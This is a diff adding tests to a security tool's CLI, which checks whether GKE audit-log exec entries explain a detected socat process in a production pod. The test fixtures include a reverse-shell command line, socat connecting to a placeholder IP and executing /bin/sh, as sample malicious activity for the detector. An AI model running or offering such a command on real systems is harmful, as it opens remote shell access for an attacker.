@@ -12,8 +12,9 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { EVIDENCE_FILES } from '../../lib/gather/evidence.js';
 import { GATHERER_SECTIONS } from '../../lib/config.js';
-import { loadJson } from '../support/fixtures.js';
 import { findingOn, writeEvidenceDir } from '../support/evidence.js';
+import { gkeLogFixture, retarget, toSeed, type GkeLogFixture } from '../support/gke-audit.js';
+import { loadJson, notificationFixture } from '../support/fixtures.js';
 import { auditEntry, seedAdmin, seedAttack, startWorld, type World } from '../support/world.js';
 import { baseEnv, exit, runCli } from './support.js';
 
@@ -231,5 +232,58 @@ describe('analyze --evidence on exports', () => {
     const r = await runCli(['analyze', writeFinding(findingOn(target)), '--evidence', join(root, 'nope')]);
     expect(exit(r)).toMatchObject({ code: 2 });
     expectOneLineError(r.stderr, /--evidence ".*nope": cannot read it: ENOENT/);
+  });
+});
+
+describe('the attribution cases of test/gather/audit-entries.test.ts, through analyze --evidence', () => {
+  // The same finding, cluster, fixtures and edits as there, exported instead of served by the emulator.
+  const TARGET = { project: 'shop-prod-4711', cluster: 'shop-prod', location: 'us-central1', namespace: 'shop', pod: 'checkout-7d9fb6c5d4-x2lqp', eventTime: '2026-11-27T02:41:17.532941Z' };
+  const env = baseEnv({ ADMIN_PRINCIPALS: 'alice@shop-prod.example,bob@shop-prod.example' });
+  const SOCAT = { name: 'socat', path: '/usr/bin/socat', args: ['socat', 'TCP:203.0.113.77:4444', 'EXEC:/bin/sh'], pid: 4120, parentPid: 4101 };
+  const JAVA_SH_SOCAT = [
+    { name: 'java', path: '/opt/java/openjdk/bin/java', args: ['java', '-jar', '/app/checkout.jar'], pid: 1, parentPid: 0 },
+    { name: 'sh', path: '/bin/sh', args: ['sh', '-c', 'socat TCP:203.0.113.77:4444 EXEC:/bin/sh'], pid: 4101, parentPid: 1 },
+    SOCAT,
+  ];
+  const EXEC_SH_SOCAT = [{ name: 'sh', path: '/bin/sh', args: ['/bin/sh'], pid: 4101, parentPid: 0 }, SOCAT];
+  const notification = (processes: typeof EXEC_SH_SOCAT) => {
+    const n = structuredClone(notificationFixture('socat-v2'));
+    n.finding.eventTime = TARGET.eventTime;
+    n.finding.processes = processes.map((p) => ({ name: p.name, binary: { path: p.path }, args: p.args, pid: String(p.pid), parentPid: String(p.parentPid) }));
+    return n;
+  };
+  const entries = (name: GkeLogFixture, edit: (e: Record<string, any>) => void = () => {}) =>
+    gkeLogFixture(name).map((e) => {
+      const moved = retarget(e, TARGET);
+      edit(moved);
+      return toSeed(moved);
+    });
+
+  it.each([
+    ['a kubectl >= 1.30 exec (pods.exec.get) explains socat', entries('exec-websocket', (e) => (e.labels['command.gke.io/command'] = '/bin/sh')), EXEC_SH_SOCAT, 'interactive_exec_by_person', ['exec_by_admin'], ['no_exec_found']],
+    ["an allow-listed admin's refused exec is never the explanation", entries('exec-refused'), EXEC_SH_SOCAT, 'no_exec_found', ['refused_pod_entry', 'no_exec_found'], ['exec_by_admin']],
+    ["an admin's exec does not explain socat the application started", entries('exec-spdy'), JAVA_SH_SOCAT, 'no_exec_found', [], ['exec_by_admin']],
+  ])('%s', async (_name, audit, processes, kind, present: string[], absent: string[]) => {
+    const dir = writeEvidenceDir(freshDir(), { auditLogs: audit });
+    const r = await runCli(['analyze', writeFinding(notification(processes)), '--evidence', dir], { env });
+    expect(exit(r)).toMatchObject({ code: 0 });
+    const report = JSON.parse(r.stdout);
+    const signals = report.verdict.reasons.map((x: { signal: string }) => x.signal);
+    expect(report.attribution.kind).toBe(kind);
+    expect(signals).toEqual(expect.arrayContaining(present));
+    for (const s of absent) expect(signals).not.toContain(s);
+  });
+
+  it('an export marked incomplete (evidence.json) proves no absence: attribution is unavailable', async () => {
+    const dir = writeEvidenceDir(freshDir(), {
+      auditLogs: entries('exec-refused'),
+      files: { 'evidence.json': { schemaVersion: 1, incomplete: { 'audit-logs.json': 'more entries matched than were read (the page cap LOG_ENTRIES_MAX)' } } },
+    });
+    const r = await runCli(['analyze', writeFinding(notification(EXEC_SH_SOCAT)), '--evidence', dir], { env });
+    expect(exit(r)).toMatchObject({ code: 0 });
+    const report = JSON.parse(r.stdout);
+    expect(report.logs.audit.truncated).toBe(true);
+    expect(report.attribution.kind).toBe('unknown');
+    expect(report.verdict.reasons.map((x: { signal: string }) => x.signal)).not.toContain('no_exec_found');
   });
 });
